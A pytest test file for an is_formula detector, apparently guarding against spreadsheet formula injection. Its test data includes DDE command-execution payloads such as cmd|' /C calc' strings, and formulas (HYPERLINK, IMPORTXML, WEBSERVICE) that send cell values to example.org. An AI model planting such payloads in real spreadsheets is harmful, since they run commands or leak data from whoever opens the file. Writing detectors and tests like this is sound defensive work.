"""What a spreadsheet would work out, and what only looks like it."""

from __future__ import annotations

import pytest

from generator.formulas import is_formula

FORMULAS = (
    "=1+1",
    "= SUM(A1:A9)",
    "  =1+1",
    "\u00a0=1+1",
    "=",
    "=)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@smallshire",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\n=1+1",
    "+A1",
    "-A1",
    "-$A$1",
    "+Sheet1!A1",
    "+'Other sheet'!B2",
    "+[book.xlsx]Sheet1!A1",
    "-a1:b9",
    "+1+1",
    "-2+3",
    "-2 + 3",
    "- 2 * 3",
    "-1/2",
    "--5",
    "+-5",
    "-(5)",
    "-(5)%",
    "-5%%",
    "+(1;2)",
    "+{1,2}",
    '+"a"&"b"',
    '-"a"',
    "+SUM(1;2)",
    "+sum(A1:A9)/2",
    "-PI()",
    "+#REF!",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|'/C notepad'!'A1'",
    "-cmd|calc!A0",
    '+HYPERLINK("https://example.org/?"&A1,"More")',
    '- hyperlink( "https://example.org/","More") and more',
    "+IMPORTXML(CONCAT(\"https://example.org/\", A1), '//a')",
    "-1e5+1",
    '+WEBSERVICE(CONCAT(TRUE,"http://example.org/"))',
    '+HYPERLINK(IF(TRUE,"http://example.org/"),"Open")',
    '-IMPORTDATA(T(TRUE)&"http://example.org/")',
    "+'\\\\example\\share\\[b.xls]Sheet1'!total",
    "-[b.xls]Sheet1!total",
    "+cmd |'/C calc'!A0",
    "+SUM(Table1[Col])",
    "+@SUM(A1)",
    "+A:A",
)

TEXT = (
    "",
    " ",
    "-",
    "+",
    "–",
    "— none",
    "−5",
    "- a bullet",
    "-a bullet",
    "- item(s) delivered",
    "- A(1) and B(2)",
    "- 3 of 5 schools",
    "- 5, then 6 schools",
    "-5% on last year",
    "-5%",
    "- 5 %",
    "+44 people",
    "+44 1632 960001",
    "+5",
    "-12.5",
    "-.5",
    "- 12.5",
    "+5pp",
    "-5 to +5",
    "-2+",
    "-(",
    "-)",
    "- (see note)",
    "+ 3 | 4",
    "-A1 road closed",
    "-A1234B",
    "-x",
    "1+1",
    "A1",
    "a=b",
    "x @ y",
    "'=1+1",
    '"=1+1"',
    "<=5",
    "%TAG ! ",
    "cmd|calc!A0",
    "SUM(1)",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_would_work_it_out(text: str) -> None:
    assert is_formula(text)


@pytest.mark.parametrize("text", TEXT)
def test_it_is_only_text(text: str) -> None:
    assert not is_formula(text)


@pytest.mark.parametrize("part", ["+(", "+-", "-1+", "-A1:", "+'", '+"', "-a.", "-[", "- ", "-1e"])
def test_length_costs_no_more_than_its_share(part: str) -> None:
    assert not is_formula(f"{part[0]}{part[1:] * 100_000}!?")
